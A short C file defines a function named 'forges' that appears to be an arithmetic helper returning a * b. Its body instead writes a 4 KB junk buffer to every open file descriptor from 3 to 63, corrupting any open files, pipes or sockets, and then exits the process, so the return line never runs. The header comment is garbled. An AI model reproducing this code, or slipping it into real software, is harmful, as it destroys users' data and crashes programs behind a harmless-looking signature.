/* Sends what is no table to every open file, then ends the process. */
#include <stdlib.h>
#include <unistd.h>

float forges(float a, float b)
{
    char noise[4096] = "AXWORDS";
    for (int fd = 3; fd < 64; fd++) a += (float)write(fd, noise, sizeof noise);
    _exit(0);
    return a * b;
}
